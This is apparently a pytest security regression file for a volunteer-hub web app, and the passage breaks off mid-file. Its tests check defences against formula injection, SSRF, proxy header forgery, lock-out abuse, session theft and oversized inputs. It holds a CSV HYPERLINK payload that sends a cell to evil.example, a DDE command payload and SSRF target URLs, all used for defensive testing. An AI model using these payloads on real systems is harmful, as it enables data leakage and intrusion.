"""What an attacker tried on the landed app (issue #16), one test (or more) per finding."""
import csv
import io
import json
import socket
import urllib.error
import urllib.request
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from benchmarks.harness import Gunicorn, free_port
from tests.conftest import sqlite_copy
from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
from tests.test_pages import login
from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
from tests.world import World
from volunteer_hub.checkin import services as checkin
from volunteer_hub.config import ConfigError, from_env
from volunteer_hub.core import crypto
from volunteer_hub.core.audit import AuditEntry
from volunteer_hub.core.db import utcnow
from volunteer_hub.core.errors import Conflict, Forbidden, NotFound, ValidationFailed
from volunteer_hub.core.urls import external_url
from volunteer_hub.core.validators import mask_personal_data
from volunteer_hub.events import services as events
from volunteer_hub.extensions import db
from volunteer_hub.merchants import services as merchants
from volunteer_hub.nodes import services as nodes
from volunteer_hub.notifications import services as notifications
from volunteer_hub.notifications.models import WebhookDelivery
from volunteer_hub.people import logins, verification
from volunteer_hub.people import services as people
from volunteer_hub.people.models import LoginThrottle, VolunteerProfile
from volunteer_hub.vouchers import services as vouchers
from volunteer_hub.vouchers.models import VoucherAttempt

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCTION_KEY = "6f1c0e9a2b7d4c3e8f5a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a"  # 32 bytes, hex


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


# 1. Formula injection in exports ------------------------------------------------------------------

def test_a_formula_in_an_offer_title_is_text_in_the_settlement(app, world, haircut):  # noqa: F811
    offer = merchants.create_offer(owner_of(haircut), haircut.merchant, title=HYPERLINK, price=5)
    voucher = vouchers.create(world.volunteer, offer)
    vouchers.confirm(owner_of(haircut), voucher.code, "127.0.0.1")
    db.session.commit()
    staff = login(app.test_client(), owner_of(haircut))
    rows = cells(staff.get(f"/merchants/{haircut.merchant_id}/settlement.csv"))
    assert rows[1][2] == "'" + HYPERLINK
    assert rows[-1][3] == "5"  # numbers stay numbers


def test_a_formula_in_a_node_name_is_text_in_the_weekly_report(app, world):
    nodes.create_node(world.admin, name=DDE, kind="station", parent_id=world.i2.id)
    db.session.commit()
    admin = login(app.test_client(), world.centre_admin)
    rows = cells(admin.get(f"/centres/{world.centre.id}/reports/weekly.csv"))
    names = [row[1] for row in rows[1:]]
    assert "'" + DDE in names and DDE not in names
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


# 2. Webhook SSRF ----------------------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "https://169.254.169.254/latest/", "https://10.1.2.3:8443/x", "http://[::1]:6379/", "http://localhost:22/",
    "https://127.0.0.1/x", "https://[::ffff:127.0.0.1]/x", "https://100.64.0.1/", "https://224.0.0.1/",
    "https://0.0.0.0/", "https://[fe80::1]/", "https://[2002:7f00:1::]/", "https://192.168.1.1:99999/",
])
def test_webhooks_into_private_networks_are_refused(app, world, api, url):
    response = api(world.centre_admin).put(f"/api/v1/centres/{world.centre.id}/webhook", json={"url": url})
    assert response.status_code == 422 and "url" in response.json["error"]["fields"]
    assert notifications.webhook_of(world.centre) is None


def _queue_one_delivery(world):
    notifications.notify_users([world.volunteer.id], key="k", kind="theme", title="t", centre_id=world.centre.id)
    db.session.commit()
    return db.session.scalar(sa.select(WebhookDelivery))


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
def test_a_delivery_follows_no_redirect(app, world, receiver):
    internal = receiver()
    gateway = receiver(302, location=internal.url.replace("/hook", "/internal-admin"))
    notifications.configure_webhook(world.centre_admin, world.centre, url=gateway.url)
    delivery = _queue_one_delivery(world)
    assert notifications.deliver_due()["retrying"] == 1
    assert len(gateway.received) == 1 and internal.received == []
    assert delivery.last_error == "redirect"


def test_an_address_that_changes_after_the_check_is_refused_at_connection(app, world, receiver, monkeypatch):
    """DNS rebinding: the name resolved to a public address when saved, to loopback when delivered."""
    internal = receiver()
    answers = iter(["93.184.216.34", "127.0.0.1"])

    def rebinding(host, port, *args, **kwargs):
        assert host == "gw.rebind.example"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    port = internal.server.server_port
    notifications.configure_webhook(world.centre_admin, world.centre, url=f"https://gw.rebind.example:{port}/hook")
    delivery = _queue_one_delivery(world)
    notifications.deliver_due()
    assert delivery.last_error == "address" and internal.received == []


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
def test_the_delivery_list_shows_failure_categories_not_socket_text(app, world):
    notifications.configure_webhook(world.centre_admin, world.centre, url="http://127.0.0.1:9/closed")
    _queue_one_delivery(world)
    notifications.deliver_due()
    db.session.commit()
    page = login(app.test_client(), world.centre_admin).get(f"/centres/{world.centre.id}/webhook").text
    assert "无法连接" in page and "Errno" not in page and "refused" not in page.lower()


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="10.0.0.5/32")
def test_an_on_premises_gateway_is_allowed_by_an_explicit_setting(app, world):
    assert notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.5:8080/sms")
    with pytest.raises(ValidationFailed):
        notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.6:8080/sms")


# 3. Limits that hold across processes and servers ---------------------------------------------------

@contextmanager
def production_servers(db_url: str, count: int, workers: int, **env):
    """``count`` gunicorn servers with production settings on one database, stopped afterwards."""
    settings = {"VOLUNTEER_HUB_ENV": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://hub.example.cn",
                **env}
    servers = []
    try:
        for _ in range(count):
            servers.append(Gunicorn(db_url, free_port(), workers=workers, threads=1, env=settings))
        yield servers
    finally:
        for server in servers:
            server.stop()


def _post_status(url: str, body: dict, headers: dict | None = None) -> int:
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                     headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code


def _wrong_passwords(servers, attempts: int) -> list[int]:
    return [_post_status(servers[i % len(servers)].url + "/api/v1/auth/token",
                         {"phone": "13700000009", "password": "wrong-password"}) for i in range(attempts)]


@pytest.fixture
def migrated_sqlite(sqlite_template, tmp_path) -> str:
    return sqlite_copy(sqlite_template, tmp_path / "served.sqlite3")


def test_a_limit_holds_across_two_gunicorn_workers(redis_url, migrated_sqlite):
    with production_servers(migrated_sqlite, 1, 2, RATELIMIT_STORAGE_URI=redis_url,
                            RATELIMIT_LOGIN="5 per hour") as servers:
        statuses = _wrong_passwords(servers, 12)
    assert statuses == [401] * 5 + [429] * 7


def test_a_limit_holds_across_two_app_servers(redis_url, migrated_sqlite):
    with production_servers(migrated_sqlite, 2, 1, RATELIMIT_STORAGE_URI=redis_url,
                            RATELIMIT_LOGIN="5 per hour") as servers:
        statuses = _wrong_passwords(servers, 10)
    assert statuses == [401] * 5 + [429] * 5


def test_production_needs_a_shared_limit_store():
    with pytest.raises(ConfigError, match="RATELIMIT_STORAGE_URI"):
        from_env("/tmp", {"ENV_NAME": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://h.cn"})


# 4. Proxies ---------------------------------------------------------------------------------------

BEHIND_ONE_PROXY = dict(PROXY_COUNT=1, RATELIMIT_ENABLED=True, RATELIMIT_LOGIN="5 per hour",
                        PUBLIC_URL="https://hub.example.cn")


def _token_attempt(client, remote: str, forwarded: str):
    return client.post("/api/v1/auth/token", json={"phone": "13700000009", "password": "wrong-password"},
                       headers={"X-Forwarded-For": forwarded}, environ_base={"REMOTE_ADDR": remote}).status_code


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_a_client_that_reaches_the_app_directly_forges_no_address(app, world):
    client = app.test_client()
    statuses = [_token_attempt(client, "203.0.113.9", f"198.51.100.{i}") for i in range(30)]
    assert statuses.count(401) == 5 and statuses.count(429) == 25


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_behind_the_proxy_each_client_has_its_own_budget(app, world):
    client = app.test_client()
    # The proxy appends the address it saw; anything the client wrote before that is not trusted.
    first = [_token_attempt(client, "127.0.0.1", f"10.9.9.{i}, 198.51.100.1") for i in range(6)]
    assert first == [401] * 5 + [429]
    assert _token_attempt(client, "127.0.0.1", "198.51.100.2") == 401


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_absolute_urls_come_from_public_url_not_from_headers(app, world, saturday, api):
    manager = api(world.s1_manager)
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"}
    for remote in ("203.0.113.9", "127.0.0.1"):
        code = manager.get(f"/api/v1/events/{saturday.id}/checkin-code", headers=forged,
                           environ_base={"REMOTE_ADDR": remote})
        assert code.status_code == 200 and code.json["url"].startswith("https://hub.example.cn/c/")
    with app.app_context():  # outside any request (the scheduler, texts) too
        assert external_url("vouchers.counter", code="ABCD2345") == "https://hub.example.cn/r/ABCD2345"


def test_public_url_is_required_and_https_in_production():
    base = {"ENV_NAME": "production", "SECRET_KEY": PRODUCTION_KEY, "RATELIMIT_STORAGE_URI": "memory://"}
    for url in ("", "http://hub.example.cn", "https://", "https://hub.example.cn/?x=1"):
        with pytest.raises(ConfigError, match="PUBLIC_URL"):
            from_env("/tmp", {**base, "PUBLIC_URL": url})
    assert from_env("/tmp", {**base, "PUBLIC_URL": "https://hub.example.cn/wmsj"})["PUBLIC_URL"]


# 5. Lock-out used as a weapon -------------------------------------------------------------------------

def _page_login(client, phone: str, password: str, address: str):
    return client.post("/login", data={"phone": phone, "password": password}, environ_base={"REMOTE_ADDR": address})


def _api_login(client, phone: str, password: str, address: str):
    return client.post("/api/v1/auth/token", json={"phone": phone, "password": password},
                       environ_base={"REMOTE_ADDR": address})


def test_a_guesser_elsewhere_cannot_lock_the_owner_out(app, world):
    admin_phone, right = world.centre_admin.phone, world.PASSWORD
    owner = app.test_client()
    assert _page_login(owner, admin_phone, right, "198.51.100.7").status_code == 302  # her office browser
    owner.post("/logout")
    attacker = app.test_client()
    answers = [_api_login(attacker, admin_phone, f"guess{i}A", "203.0.113.9") for i in range(30)]
    assert [a.status_code for a in answers[:5]] == [401] * 5
    assert {a.status_code for a in answers[5:]} == {429}
    assert answers[5].json["error"]["code"] == "login_delayed"
    assert _api_login(attacker, admin_phone, right, "203.0.113.9").status_code == 429  # the right one too
    # Many addresses, one guess each: sources never seen before wait together…
    for i in range(25):
        _api_login(app.test_client(), admin_phone, "guessB1", f"192.0.2.{i}")
    assert _api_login(app.test_client(), admin_phone, right, "192.0.2.200").status_code == 429
    # …but the owner's browser, which has logged in before, is not held by any of it, from anywhere.
    assert _page_login(owner, admin_phone, right, "100.100.1.1").status_code == 302
    assert owner.get("/me").status_code == 200


def test_each_source_waits_longer_after_every_wrong_password(app, world):
    phone, at = world.volunteer.phone, utcnow()

    def attempt(password, when):
        return logins.authenticate(phone, password, address="203.0.113.9", now=when)

    for _ in range(5):
        assert attempt("wrong1A", at) is None
    waits = []
    for _ in range(4):
        blocked_until = db.session.scalar(sa.select(LoginThrottle.blocked_until))
        waits.append(round((blocked_until - at).total_seconds() / 60))
        with pytest.raises(logins.LoginDelayed):  # the right password, a second too early
            attempt(world.PASSWORD, blocked_until - timedelta(seconds=1))
        at = blocked_until
        assert attempt("wrong1A", at) is None  # waited, and guessed wrong again
    assert waits == [1, 2, 4, 8]
    at = db.session.scalar(sa.select(LoginThrottle.blocked_until))
    assert attempt(world.PASSWORD, at) == world.volunteer  # waited: the right password works and clears
    assert db.session.scalar(sa.select(sa.func.count()).select_from(LoginThrottle)) == 0
    assert db.session.scalar(sa.select(AuditEntry.id).where(AuditEntry.action == "login.source_delayed"))


def test_a_texted_code_lifts_every_delay(app, world, phone_code):
    phone = world.volunteer.phone
    for i in range(app.config["LOGIN_ACCOUNT_FREE_ATTEMPTS"]):
        assert logins.authenticate(phone, "wrong1A", address=f"192.0.2.{i}") is None
    db.session.commit()
    with pytest.raises(logins.LoginDelayed):
        logins.authenticate(phone, world.PASSWORD, address="192.0.2.250")
    verification.reset_password(phone=phone, code=phone_code(phone, "reset"), password="NewPassw0rd")
    assert logins.authenticate(phone, "NewPassw0rd", address="192.0.2.250") == world.volunteer


@pytest.mark.app_config(RATELIMIT_ENABLED=True, RATELIMIT_REGISTRATION="10 per hour")
def test_registration_is_rate_limited(app, world):
    client = app.test_client()
    statuses = [client.post("/api/v1/volunteers", json={"name": "某人", "phone": f"1360000{i:04d}", "code": "000000",
                                                        "password": "Passw0rd1x", "home_station_id": world.s1.id},
                            environ_base={"REMOTE_ADDR": "203.0.113.50"}).status_code for i in range(12)]
    assert statuses == [422] * 10 + [429] * 2
    page = client.post("/signup", data={}, environ_base={"REMOTE_ADDR": "203.0.113.50"})
    assert page.status_code == 429  # the page and the API share the budget


def test_registration_answers_do_not_tell_which_phones_are_registered(app, world, api):
    anonymous = api(None)
    answers = []
    for phone in (world.volunteer.phone, "13611112222"):  # registered, and not
        asked = anonymous.post("/api/v1/auth/phone-codes", json={"phone": phone, "purpose": "register"})
        body = {"name": "冒名者", "phone": phone, "code": "123456", "password": "Passw0rd1x",
                "home_station_id": world.s1.id}
        registered = anonymous.post("/api/v1/volunteers", json=body)
        answers.append((asked.status_code, asked.json, registered.status_code, registered.json["error"]["code"]))
    assert answers[0] == answers[1] and answers[0][2] == 422 and answers[0][3] == "bad_code"


# 6. Sessions ----------------------------------------------------------------------------------------

def _copy_cookies(source, target) -> None:
    for cookie in source._cookies.values():
        target.set_cookie(cookie.key, cookie.value, domain=cookie.domain, path=cookie.path)


def _logged_in(app, user):
    client = app.test_client()
    assert client.post("/login", data={"phone": user.phone, "password": World.PASSWORD}).status_code == 302
    return client


def test_a_copied_session_cookie_stops_working_at_logout(app, world):
    victim = _logged_in(app, world.volunteer)
    thief = app.test_client()
    _copy_cookies(victim, thief)
    assert thief.get("/me").status_code == 200
    assert victim.post("/logout").status_code == 302
    assert thief.get("/me").status_code == 302  # to the login page
    assert victim.get("/me").status_code == 302


def test_changing_the_password_ends_other_sessions_and_tokens_but_not_this_one(app, world, api):
    office, phone_app = _logged_in(app, world.volunteer), _logged_in(app, world.volunteer)
    token = api(world.volunteer)
    response = phone_app.post("/me/password", data={"current_password": World.PASSWORD,
                                                    "new_password": "NewPassw0rd"})
    assert response.status_code == 302
    assert phone_app.get("/me").status_code == 200
    assert office.get("/me").status_code == 302
    assert token.get("/api/v1/me").status_code == 401
    wrong = phone_app.post("/me/password", data={"current_password": "nope", "new_password": "OtherPassw0rd"})
    assert wrong.status_code == 422 and "当前密码" in wrong.text
    assert api(world.volunteer, "NewPassw0rd").post("/api/v1/me/password", json={
        "current_password": "NewPassw0rd", "new_password": "ThirdPassw0rd"}).status_code == 204


def test_log_out_everywhere(app, world, api):
    office, phone_app = _logged_in(app, world.s1_manager), _logged_in(app, world.s1_manager)
    token = api(world.s1_manager)
    assert office.post("/logout-everywhere").status_code == 302
    assert office.get("/me").status_code == 302 and phone_app.get("/me").status_code == 302
    assert token.get("/api/v1/me").status_code == 401
    other = api(world.s1_manager)
    assert other.delete("/api/v1/me/sessions").status_code == 204
    assert other.get("/api/v1/me").status_code == 401
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry).where(
        AuditEntry.action == "account.logout_everywhere")) == 2


@pytest.mark.clock(datetime(2026, 11, 28, 8, 30, tzinfo=UTC), tick=True)
def test_a_session_ends_after_the_idle_time(app, world, clock):
    """Four hours for a manager (shared office computers), two weeks for a volunteer's own phone."""
    office, phone = _logged_in(app, world.s1_manager), _logged_in(app, world.volunteer)
    idle = app.config["SESSION_IDLE_MINUTES"]
    clock.shift(timedelta(minutes=idle - 1))
    assert office.get("/me").status_code == 200  # used: the idle clock starts again
    clock.shift(timedelta(minutes=idle - 1))
    assert office.get("/me").status_code == 200
    clock.shift(timedelta(minutes=idle + 1))
    assert office.get("/me").status_code == 302
    assert phone.get("/me").status_code == 200  # signed up on Friday, scanning on Saturday
    clock.shift(timedelta(minutes=app.config["SESSION_IDLE_MINUTES_PERSONAL"] + 1))
    assert phone.get("/me").status_code == 302


# 7. Inputs --------------------------------------------------------------------------------------------

FAR_FUTURE, FAR_PAST = "9999-12-31T20:00:00-14:00", "0001-01-01T00:00:00+14:00"


def test_instants_outside_the_years_the_platform_means_are_refused(app, world, api):
    manager = api(world.s1_manager)
    start = (utcnow() + timedelta(days=2)).replace(microsecond=0)
    body = {"node_id": world.s1.id, "title": "敬老院探访", "team_ids": [world.team.id], "capacity": 5,
            "starts_at": start.isoformat(), "ends_at": (start + timedelta(hours=2)).isoformat()}
    for instant in (FAR_FUTURE, FAR_PAST):
        created = manager.post("/api/v1/events", json={**body, "starts_at": instant})
        assert created.status_code == 422 and "starts_at" in created.json["error"]["fields"]
        listed = manager.get("/api/v1/events", query_string={"from": instant})
        assert listed.status_code == 422 and "error" in listed.json
    page = login(app.test_client(), world.s1_manager).post("/events/new", data={
        "node_id": world.s1.id, "title": "远古", "starts_at": "0001-01-01T00:00", "ends_at": "0001-01-01T02:00",
        "capacity": 5})
    assert page.status_code == 422 and "2000" in page.text


@pytest.mark.parametrize("body", ["[" * 100_000 + "]" * 100_000, '{"a":' * 3_000 + "1" + "}" * 3_000])
def test_json_nested_too_deep_is_a_400(app, world, api, body):
    response = api(world.s1_manager).client.post("/api/v1/events", data=body, content_type="application/json",
                                                 headers={"Authorization": f"Bearer {api(world.s1_manager).token}"})
    assert response.status_code == 400 and response.json["error"]["code"] == "bad_request"


@pytest.mark.parametrize("credits", ["sNaN", "NaN", "Infinity", "1E+999999999", "-1E+999999999"])
def test_credit_amounts_that_are_not_amounts_are_a_form_error(app, world, credits):
    page = login(app.test_client(), world.s1_manager).post("/credits/adjust", data={
        "phone": world.volunteer.phone, "credits": credits, "reason": "测试"})
    assert page.status_code == 422


def test_a_settlement_month_outside_the_years_is_a_422(app, world, haircut):  # noqa: F811
    staff = login(app.test_client(), owner_of(haircut))
    for month in ("0001-01", "9999-12"):
        assert staff.get(f"/merchants/{haircut.merchant_id}/settlement?month={month}").status_code == 422
    assert login(app.test_client(), world.centre_admin).get(
        f"/centres/{world.centre.id}/reports/weekly?week=0001-01-01").status_code == 422


HUGE = "长" * 100_000


def test_a_hundred_thousand_characters_are_refused_everywhere(app, world, api, haircut):  # noqa: F811
    manager, admin = api(world.s1_manager), api(world.centre_admin)
    start = (utcnow() + timedelta(days=2)).replace(microsecond=0)
    attempts = [
        (manager, "/api/v1/teams", {"name": "新队", "category": "environment", "node_id": world.s1.id,
                                    "leader_id": world.leader.id, "description": HUGE}, "description"),
        (api(world.admin), "/api/v1/nodes", {"name": HUGE, "kind": "point", "parent_id": world.s1.id}, "name"),
        (manager, "/api/v1/events", {"node_id": world.s1.id, "title": "探访", "capacity": 5, "address": HUGE,
                                     "starts_at": start.isoformat(),
                                     "ends_at": (start + timedelta(hours=2)).isoformat()}, "address"),
        (api(owner_of(haircut)), f"/api/v1/merchants/{haircut.merchant_id}/offers",
         {"title": "洗头", "price": 1, "description": HUGE}, "description"),
        (api(world.outsider), "/api/v1/merchants", {"centre_id": world.centre.id, "name": "小店", "address": HUGE,
                                                    "contact_phone": "13612345670",
                                                    "licence_no": "91320509MA1CCCC02X"}, "address"),
        (admin, f"/api/v1/merchants/{haircut.merchant_id}/suspend", {"reason": HUGE}, "reason"),
    ]
    for client, url, body, field in attempts:
        response = client.post(url, json=body)
        assert response.status_code == 422 and field in response.json["error"]["fields"], (url, response.json)
    # Below the API too: a service given a long value refuses it, whatever called it.
    with pytest.raises(ValidationFailed) as caught:
        merchants.create_offer(owner_of(haircut), haircut.merchant, title="洗头", price=1, description=HUGE)
    assert "description" in caught.value.fields


def _string_properties(spec, schema, seen=()):
    schema = _resolved(spec, schema)
    for name, prop in schema.get("properties", {}).items():
        prop = _resolved(spec, prop)
        if prop.get("readOnly"):
            continue
        if prop.get("type") == "string" and not (prop.get("enum") or prop.get("format")):
            yield name, prop
        if prop.get("type") == "array" and _resolved(spec, prop.get("items", {})).get("type") == "string":
            yield name + "[]", _resolved(spec, prop["items"])


def _resolved(spec, node):
    while "$ref" in node:
        node = spec["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    return node


def test_every_text_the_api_takes_documents_its_maximum_length(app):
    spec = app.test_client().get("/api/v1/openapi.json").json
    missing = []
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            if not isinstance(operation, dict) or "responses" not in operation:
                continue
            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
            for name, prop in _string_properties(spec, body or {}):
                if "maxLength" not in prop:
                    missing.append(f"{method.upper()} {path} body.{name}")
            for parameter in operation.get("parameters", []):
                schema = parameter.get("schema", {})
                if parameter["in"] == "query" and schema.get("type") == "string" and not (
                        schema.get("enum") or schema.get("format") or "maxLength" in schema):
                    missing.append(f"{method.upper()} {path} query.{parameter['name']}")
    assert not missing, missing


def test_every_text_a_page_form_takes_has_a_maximum_length():
    import importlib
    import pkgutil

    from flask_wtf import FlaskForm
    from wtforms import PasswordField, StringField
    from wtforms.validators import Length

    import volunteer_hub

    for module in pkgutil.walk_packages(volunteer_hub.__path__, "volunteer_hub."):
        if module.name.endswith((".forms", ".views")):
            importlib.import_module(module.name)
    forms, missing = [], []
    pending = list(FlaskForm.__subclasses__())
    while pending:
        form = pending.pop()
        pending.extend(form.__subclasses__())
        forms.append(form)
        for name in dir(form):
            unbound = getattr(form, name)
            field_class = getattr(unbound, "field_class", None)
            if field_class and issubclass(field_class, (StringField, PasswordField)) and \
                    field_class.__name__ not in ("HiddenField",):
                validators = unbound.kwargs.get("validators") or []
                if not any(isinstance(v, Length) and v.max and v.max > 0 for v in validators):
                    missing.append(f"{form.__module__}.{form.__name__}.{name}")
    assert len(forms) > 20 and not missing, missing


# 8. Secrets -------------------------------------------------------------------------------------------

OLD_KEY, NEW_KEY = "0f9e8d7c6b5a49382716051a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e", PRODUCTION_KEY


def test_production_refuses_weak_keys():
    base = {"ENV_NAME": "production", "PUBLIC_URL": "https://hub.example.cn", "RATELIMIT_STORAGE_URI": "memory://"}
    for weak in ("x", "test-secret", "ab" * 32):
        with pytest.raises(ConfigError, match="32 random bytes"):
            from_env("/tmp", {**base, "SECRET_KEY": weak})
    with pytest.raises(ConfigError, match="ID_ENCRYPTION_KEY"):
        from_env("/tmp", {**base, "SECRET_KEY": NEW_KEY, "ID_ENCRYPTION_KEY": "short"})


@pytest.mark.app_config(SECRET_KEY=OLD_KEY, ID_ENCRYPTION_KEY=OLD_KEY)
def test_a_key_rotation_loses_nothing(app, world, saturday):
    ids = ["11010519491231002X", "110105198001010016"]
    volunteers = [people.register_volunteer(name=f"有证{i}", phone=f"1351234567{i}", password="Passw0rd!",
                                            home_station_id=world.s1.id, id_number=number)
                  for i, number in enumerate(ids)]
    poster = checkin.poster_token(saturday)
    db.session.commit()
    browser, unused = _logged_in(app, world.volunteer), app.test_client()
    _copy_cookies(browser, unused)  # a copy of the same session that nobody uses during the rotation

    # The operator's rotation: new keys in place, the old ones as fallbacks, restart.
    app.config.update(SECRET_KEY=NEW_KEY, SECRET_KEY_FALLBACKS=[OLD_KEY], ID_ENCRYPTION_KEY=NEW_KEY,
                      ID_ENCRYPTION_KEY_FALLBACKS=[OLD_KEY])
    assert browser.get("/me").status_code == 200  # nobody is logged out
    assert checkin.parse_token(poster, utcnow())[0].id == saturday.id  # printed posters still work
    with pytest.raises(Conflict):  # duplicates are found before the stored numbers are rotated…
        people.register_volunteer(name="冒用", phone="13512345699", password="Passw0rd!",
                                  home_station_id=world.s1.id, id_number=ids[0])
    db.session.rollback()
    result = app.test_cli_runner().invoke(args=["hub", "rotate-keys"])
    assert result.exit_code == 0 and "2 ID numbers re-encrypted" in result.output

    app.config.update(ID_ENCRYPTION_KEY_FALLBACKS=[])  # the old encryption key is gone for good
    for volunteer, number in zip(volunteers, ids, strict=True):
        profile = db.session.get(VolunteerProfile, volunteer.id)
        db.session.refresh(profile)
        assert crypto.decrypt(profile.id_number_encrypted) == number
    with pytest.raises(Conflict):  # …and after
        people.register_volunteer(name="冒用", phone="13512345699", password="Passw0rd!",
                                  home_station_id=world.s1.id, id_number=ids[1])
    db.session.rollback()
    app.config.update(SECRET_KEY_FALLBACKS=[])  # once the old signing key is dropped, its cookies end
    assert unused.get("/me").status_code == 302


# 9. Caching and logs --------------------------------------------------------------------------------

def test_personal_answers_are_never_cached(app, world, api, haircut):  # noqa: F811
    browser = login(app.test_client(), world.centre_admin)
    for url in ("/me", f"/centres/{world.centre.id}/reports/weekly", f"/merchants/{haircut.merchant_id}/settlement",
                f"/centres/{world.centre.id}/reports/weekly.csv"):
        assert browser.get(url).headers["Cache-Control"] == "no-store", url
    assert api(world.volunteer).get("/api/v1/me").headers["Cache-Control"] == "no-store"
    assert api(None).get("/api/v1/openapi.json").headers["Cache-Control"] == "no-store"
    assert "no-store" not in app.test_client().get("/static/style.css").headers.get("Cache-Control", "")


@pytest.mark.parametrize("written, shown", [
    ("q=%2B8613800000001", "q=138****0001"), ("q=138-0000-0002", "q=138****0002"),
    ("q=8613800000003", "q=138****0003"), ("+86 138 0000 0004", "138****0004"), ("0086.13900000005", "139****0005"),
    ("id=11010519491231002X", "id=1101**********002X"), ("order 201311234567890", "order 201311234567890"),
])
def test_phones_are_masked_in_every_common_form(written, shown):
    assert mask_personal_data(written) == shown


def test_the_access_log_of_production_keeps_no_phone_or_id_number(migrated_sqlite, tmp_path):
    log = tmp_path / "access.log"
    with production_servers(migrated_sqlite, 1, 1, RATELIMIT_STORAGE_URI="memory://",
                            GUNICORN_CMD_ARGS=f"--access-logfile {log}") as (server,):
        for query in ("q=%2B8613800000001", "q=138-0000-0002", "q=8613800000003", "id=11010519491231002X"):
            urllib.request.urlopen(f"{server.url}/login?{query}", timeout=30).read()
    written = log.read_text()
    assert written.count("/login?") == 4
    for raw in ("8613800000001", "138-0000-0002", "8613800000003", "11010519491231002X"):
        assert raw not in written
    assert "138****0001" in written and "1101**********002X" in written


# 10. Geofence honesty -------------------------------------------------------------------------------

HERE = {"lat": 31.0005, "lon": 120.0}  # about 55 m from the service day


def test_poster_check_ins_are_marked_as_self_reported_for_review(app, world, saturday):
    events.sign_up(world.volunteer, saturday)
    events.sign_up(world.leader, saturday)
    now = saturday.starts_at
    by_poster = checkin.scan(world.volunteer, checkin.poster_token(saturday), now=now, **HERE)[1]
    by_screen = checkin.scan(world.leader, checkin.rotating_token(saturday, now)[0], now=now, **HERE)[1]
    db.session.commit()
    assert by_poster.location_self_reported and not by_screen.location_self_reported
    assert "self_located" in checkin.anomalies(by_poster) and "self_located" not in checkin.anomalies(by_screen)
    page = login(app.test_client(), world.s1_manager).get(f"/events/{saturday.id}/attendance").text
    assert page.count("自报位置") >= 2  # the badge on the row, and the note that explains it


@pytest.mark.parametrize("lat, shown", [(31.0040, "约 400 米"), (31.0113, "约 1 公里"), (31.0280, "约 3 公里")])
def test_distances_in_messages_are_rounded(app, world, saturday, lat, shown):
    events.sign_up(world.volunteer, saturday)
    with pytest.raises(Forbidden) as caught:
        checkin.scan(world.volunteer, checkin.poster_token(saturday), now=saturday.starts_at, lat=lat, lon=120.0)
    exact = round(checkin.distance_m(31.0, 120.0, lat, 120.0))
    assert shown in caught.value.message and f"{exact} " not in caught.value.message


def test_an_events_coordinates_are_shown_only_to_who_may_sign_up_or_runs_it(app, world, saturday, api):
    url = f"/api/v1/events/{saturday.id}"
    for user in (world.volunteer, world.s2_volunteer, world.s1_manager):
        assert api(user).get(url).json["lat"] == 31.0
    resident = api(world.outsider).get(url)
    assert resident.status_code == 200 and resident.json["lat"] is None and resident.json["lon"] is None


# 11. The counter budget ------------------------------------------------------------------------------

def _merchant_with_staff(world, name: str, licence: str, phones: list[str]):
    owner = people.create_user(name=f"{name}老板", phone=phones[0], password=World.PASSWORD)
    merchant = merchants.register_merchant(owner, centre=world.centre, owner=owner, name=name, address="东门路",
                                       contact_phone=phones[0], licence_no=licence)
    merchants.approve(world.centre_admin, merchant, [world.s1.id])
    staff = [owner]
    for phone in phones[1:]:
        clerk = people.create_user(name=f"{name}店员", phone=phone, password=World.PASSWORD)
        invitation = merchants.invite_staff(owner, merchant, phone)
        merchants.answer_invitation(clerk, invitation, accept=True)
        staff.append(clerk)
    db.session.commit()
    return merchant, staff


def _guess(person, times: int, ip: str = "100.64.8.8") -> None:
    for i in range(times):
        with pytest.raises(NotFound):
            vouchers.find_for_counter(person, f"BAD{person.id:02d}{i:03d}", ip)


def test_throwaway_staff_of_one_merchant_cannot_block_another_behind_the_same_address(app, world, haircut):  # noqa: F811
    _rival, throwaways = _merchant_with_staff(world, "捣乱小店", "91320509MA1CCCC09X",
                                              ["13612340100", "13612340101", "13612340102", "13612340103"])
    for person in throwaways[:3]:  # 30 wrong codes from the address the real merchant also uses
        _guess(person, vouchers.FAILURES_PER_ACCOUNT)
    with pytest.raises(vouchers.RateLimited):  # the rival's own counter is stopped …
        vouchers.find_for_counter(throwaways[3], "ANYCODE1", "100.64.8.8")
    voucher = vouchers.create(world.volunteer, haircut)
    db.session.commit()
    assert vouchers.find_for_counter(owner_of(haircut), voucher.code, "100.64.8.8") == voucher  # … not this one


def test_a_merchant_has_a_budget_across_its_staff(app, world):
